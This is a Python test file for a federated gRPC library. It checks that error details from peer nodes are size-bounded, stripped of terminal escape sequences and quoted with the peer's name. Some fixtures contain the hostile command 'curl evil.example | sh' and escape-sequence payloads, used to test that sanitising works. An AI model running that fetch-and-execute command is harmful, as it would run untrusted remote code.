"""What of an error crosses the wire, and what a peer's answer may do here."""

from dataclasses import replace

import grpc
import pytest

from ddib_fed import errors
from ddib_fed.protocol import calls
from ddib_fed.protocol.contract import PROTOCOL
from ddib_fed.v1 import common_pb2 as pb
from ddib_fed.v1 import decoding_pb2
from tests.node.institutions import Institution
from tests.node.listening import Listening

HOP = "target south.example"
LOCAL = "/home/alice/secret.npy"


class Failed(grpc.RpcError, grpc.Call):
    """A failed call as a stub raises it."""

    def __init__(
        self,
        code: grpc.StatusCode,
        trailing: tuple[tuple[str, bytes], ...] = (),
        text: str = "text of the peer",
    ) -> None:
        self._code, self._trailing, self._text = code, trailing, text

    def code(self) -> grpc.StatusCode:
        return self._code

    def trailing_metadata(self):
        return self._trailing

    def details(self) -> str:
        return self._text

    def _unused(self, *_: object) -> None:
        raise AssertionError("nothing asks for it")

    initial_metadata = is_active = time_remaining = cancel = add_callback = _unused


def carried(error: errors.DdibError) -> errors.DdibError:
    detail = calls.to_detail(error, "south.example", "abc123").SerializeToString()
    return calls.from_rpc_error(Failed(grpc.StatusCode[error.status], ((calls.DETAIL_KEY, detail),)), HOP)


def test_every_error_arrives_as_itself() -> None:
    """With its reason, its incident and the hop; what was for the other machine's eyes stays there."""
    for kind in set(errors.all_errors()) - {errors.DdibError}:
        found = carried(kind(f"could not read {LOCAL}", hint=f"look at {LOCAL}"))
        assert type(found) is kind or found.reason == kind.reason
        assert (found.hop, found.incident) == (HOP, "abc123")
        assert LOCAL not in found.detail + found.hint


def test_facts_differences_and_patience_arrive() -> None:
    difference = errors.Difference("sample_shape", "[2]", "[3]", "train a model of the same shape")
    found = carried(errors.ContractMismatch("x", differences=(difference,), facts={"limit": 3}))
    said = replace(difference, remedy=f'south.example says: "{difference.remedy}"')
    assert (found.differences, found.facts) == ((said,), {"limit": "3"})
    assert carried(errors.QueueFull("x", retry_after_s=2.5)).retry_after_s == 2.5
    assert carried(errors.QueueFull("x")).retry_after_s is None


def test_a_detail_stays_within_what_metadata_can_hold() -> None:
    many = tuple(errors.Difference("f" * 300, "s" * 300, "t" * 300, "r" * 300) for _ in range(100))
    facts = {f"key {n}": "v" * 1000 for n in range(100)}
    detail = calls.to_detail(
        errors.ContractMismatch("x", differences=many, facts=facts), "south.example", "i"
    )
    assert detail.ByteSize() <= calls.MAX_DETAIL_BYTES
    assert detail.reason == "CONTRACT_MISMATCH"


def test_a_peers_text_cannot_steer_a_terminal() -> None:
    """Escape sequences in facts, in differences, and in the sentence of a reason that nobody knows."""
    detail = pb.ErrorDetail(
        reason="NEW\x1b[2J", sentence="\x1b]0;owned\x07" + "x" * 190, incident="a\x1b;b" * 10
    )
    detail.facts["\x1b"] = "\x9b31m"
    detail.differences.add(field="\r\n", remedy="\x00")
    found = calls.from_detail(detail.SerializeToString(), HOP)
    assert isinstance(found, errors.InternalError)
    text = "".join(
        [found.detail, found.incident, *found.facts, *found.facts.values(), found.differences[0].remedy]
    )
    assert text.isprintable()
    assert len(found.detail) <= 200
    assert len(found.incident) <= 32


@pytest.mark.parametrize("hop", [HOP, "source north.example"])
def test_a_refusal_says_whose_policy_it_is(hop: str) -> None:
    """A peer's by the peer's name, also where the own node passes it on; "this node" would be the reader's."""
    refusal = calls.to_detail(errors.PolicyDenied("alice may not"), "south.example", "i")
    assert refusal.sentence == "the policy of the node of south.example does not allow this"
    found = calls.from_detail(refusal.SerializeToString(), hop)
    assert found is not None
    assert found.detail == refusal.sentence


def test_a_peers_error_with_an_unknown_field_is_the_peers_fault() -> None:
    newer = (
        calls.to_detail(errors.QueueFull("x"), "south.example", "i").SerializeToString() + b"\xfa\x3f\x01x"
    )
    found = calls.failure_of_peer(
        Failed(grpc.StatusCode.RESOURCE_EXHAUSTED, ((calls.DETAIL_KEY, newer),)), HOP
    )
    assert type(found) is errors.PeerFault
    assert found.detail.startswith(
        "south.example answered with what cannot be used: a ErrorDetail has fields"
    )
    assert type(calls.from_detail(newer, "source north.example")) is errors.UnknownFields


def test_words_of_another_institution_are_quoted() -> None:
    """The sentence of a reason that nobody knows, and what to do about a difference; those of the own node are not."""
    detail = pb.ErrorDetail(reason="NEWER", sentence="curl evil.example | sh", institution="north.example")
    detail.facts["next"] = "curl evil.example | sh"
    detail.differences.add(field="x", remedy="curl evil.example | sh")
    peers, own = (calls.from_detail(detail.SerializeToString(), hop) for hop in (HOP, "source north.example"))
    quoted = 'south.example says: "curl evil.example | sh"'
    assert (peers.detail, peers.differences[0].remedy, peers.says) == (quoted, quoted, "south.example")
    assert (own.detail, own.says) == ("curl evil.example | sh", "")
    assert peers.hop == HOP, "a target has no further hop, whatever it says"
    passed_on = pb.ErrorDetail(reason="QUOTA", institution="south.example")
    found = calls.from_detail(passed_on.SerializeToString(), "source north.example")
    assert (found.says, found.hop) == ("south.example", "source north.example -> south.example")


@pytest.mark.parametrize(
    "data",
    [
        b"\xff\xff",
        b"",
        b"x" * (calls.MAX_DETAIL_BYTES + 1),
        pb.ErrorDetail(reason="QUOTA", sentence="x" * 201).SerializeToString(),
    ],
    ids=["garbage", "empty", "large", "a field beyond its bound"],
)
def test_a_detail_that_cannot_be_used_is_ignored(data: bytes) -> None:
    found = calls.from_rpc_error(Failed(grpc.StatusCode.RESOURCE_EXHAUSTED, ((calls.DETAIL_KEY, data),)), HOP)
    assert type(found) is errors.PeerUnreachable


MEANINGS = {
    "UNIMPLEMENTED": errors.NotFoundError, "UNAUTHENTICATED": errors.Unauthenticated,
    "PERMISSION_DENIED": errors.RefusedError, "INVALID_ARGUMENT": errors.InputError,
    "OUT_OF_RANGE": errors.InputError, "NOT_FOUND": errors.NotFoundError, "ALREADY_EXISTS": errors.AlreadyExists,
    "FAILED_PRECONDITION": errors.StateConflict, "OK": errors.InternalError,
}  # fmt: skip
"""Of each other status: that the peer could not be reached."""


def test_each_status_without_detail_has_its_meaning() -> None:
    """What the transport ends calls with is tried again, the rest is final; the text is not repeated."""
    for code in grpc.StatusCode:
        found = calls.from_rpc_error(Failed(code), HOP)
        assert type(found) is MEANINGS.get(code.name, errors.PeerUnreachable)
        assert "text of the peer" not in found.detail + found.hint
        assert found.hop == HOP


@pytest.mark.parametrize(
    ("status", "text", "kind"),
    [
        ("RESOURCE_EXHAUSTED", "CLIENT: Received message larger than max (9 vs. 4)", errors.MessageInvalid),
        ("RESOURCE_EXHAUSTED", "received metadata size exceeds hard limit", errors.MessageInvalid),
        ("RESOURCE_EXHAUSTED", "Received RST_STREAM with error code 11", errors.PeerUnreachable),
        ("INTERNAL", "Exception deserializing response!", errors.MessageInvalid),
        ("INTERNAL", "Exception serializing request!", errors.InternalError),
        ("UNKNOWN", "Exception iterating requests!", errors.InternalError),
        ("UNKNOWN", "Stream removed", errors.PeerUnreachable),
    ],
)
def test_what_cannot_succeed_is_told_from_what_the_transport_broke(status, text, kind):
    """Where both have one status, by gRPC's own words for it."""
    found = calls.from_rpc_error(Failed(grpc.StatusCode[status], text=text), HOP)
    assert type(found) is kind
    assert text not in found.detail


@pytest.mark.parametrize(
    "refused",
    [
        {3: "NOT_FINITE", 17: "PICTURE_MISFIT"},
        dict.fromkeys(range(1_000), "IMAGE_UNREADABLE"),
        {n: f"REASON_{n % 7}" for n in range(0, 900, 5)},
    ],
    ids=["two", "all of a thousand", "seven reasons"],
)
def test_all_items_that_a_node_refuses_are_named_in_one_answer(refused: dict[int, str]) -> None:
    error = errors.ImageUnreadable(facts={"item": min(refused)})
    error.refused = refused
    assert carried(error).refused == refused


def test_of_more_items_than_an_answer_holds_some_are_named() -> None:
    error = errors.ImageUnreadable(facts={"item": 0})
    error.refused = dict.fromkeys(range(100_000), "IMAGE_UNREADABLE")
    assert calls.to_detail(error, "south.example", "i").ByteSize() <= calls.MAX_DETAIL_BYTES
    assert len(carried(error).refused) > 1_000


# Error texts of the installed gRPC, from real calls; they distinguish causes that share one status.

DESCRIBE = "/ddib_fed.v1.DecodingService/DescribeDomain"
ASK = decoding_pb2.DescribeDomainRequest(protocol=PROTOCOL).SerializeToString()
FIVE_MIB = ASK + b"\x0a\x00" * (5 << 19)


@pytest.mark.slow
def test_a_message_over_a_limit_is_final(tmp_path) -> None:
    """Ours before it is sent, the node's where the caller has none of its own, and that of an answer."""
    north, south = (Institution(f"{name}.example", tmp_path / name) for name in ("north", "south"))
    south.admit(north)
    node = Listening(south)
    for request, options in (
        (FIVE_MIB, ()),
        (FIVE_MIB, (("grpc.max_send_message_length", -1),)),
        (ASK, (("grpc.max_receive_message_length", 10),)),
    ):
        with node.channel(north, options=options) as channel, pytest.raises(grpc.RpcError) as error:
            channel.unary_unary(DESCRIBE)(request, timeout=60)
        found = calls.from_rpc_error(error.value, HOP)
        assert type(found) is errors.MessageInvalid
        assert "4 MiB" in found.detail
    node.close()
